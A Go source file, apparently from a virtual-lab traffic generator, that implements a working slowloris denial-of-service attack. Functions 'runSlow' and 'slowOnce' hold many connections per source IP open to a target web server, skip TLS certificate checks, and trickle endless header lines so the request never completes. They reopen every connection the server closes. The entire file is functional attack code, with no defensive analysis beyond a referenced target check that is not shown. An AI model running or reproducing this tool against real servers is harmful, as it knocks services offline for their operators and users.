package traffic

import (
	"context"
	"crypto/tls"
	"fmt"
	"net"
	"net/url"
	"sync"
	"time"
)

// runSlow keeps cfg.Connections connections open to the URL's server per
// source, each sending a request's headers one line every cfg.Interval and
// never ending them (slowloris), reopening what the server closes.
func runSlow(ctx context.Context, cfg Slow, sources []string, rec *recorder) {
	u, err := url.Parse(cfg.URL)
	if err != nil {
		return // Check refused it already
	}
	addr := u.Host
	if u.Port() == "" {
		addr = net.JoinHostPort(u.Hostname(), map[string]string{"http": "80", "https": "443"}[u.Scheme])
	}
	var mu sync.Mutex
	open := 0
	change := func(d int) {
		mu.Lock()
		open += d
		rec.setSlowOpen(open)
		mu.Unlock()
	}
	var wg sync.WaitGroup
	for _, src := range sources {
		for i := 0; i < cfg.Connections; i++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for ctx.Err() == nil {
					slowOnce(ctx, cfg, u, addr, src, change)
					select {
					case <-ctx.Done():
					case <-time.After(time.Second):
					}
				}
			}()
		}
	}
	wg.Wait()
}

// slowOnce holds one slow connection until the server or ctx ends it.
func slowOnce(ctx context.Context, cfg Slow, u *url.URL, addr, src string, change func(int)) {
	d := net.Dialer{Timeout: 10 * time.Second}
	if src != "" {
		d.LocalAddr = &net.TCPAddr{IP: net.ParseIP(src)}
	}
	c, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return
	}
	if u.Scheme == "https" {
		tc := tls.Client(c, &tls.Config{InsecureSkipVerify: true, ServerName: u.Hostname()})
		if err := tc.HandshakeContext(ctx); err != nil {
			c.Close()
			return
		}
		c = tc
	}
	defer c.Close()
	change(1)
	defer change(-1)
	path := u.RequestURI()
	if _, err := fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: vlab-slow-client\r\n", path, u.Host); err != nil {
		return
	}
	for n := 0; ; n++ {
		select {
		case <-ctx.Done():
			return
		case <-time.After(cfg.Interval):
		}
		c.SetWriteDeadline(time.Now().Add(cfg.Interval))
		if _, err := fmt.Fprintf(c, "X-Slow-%d: %d\r\n", n, n); err != nil {
			return
		}
	}
}
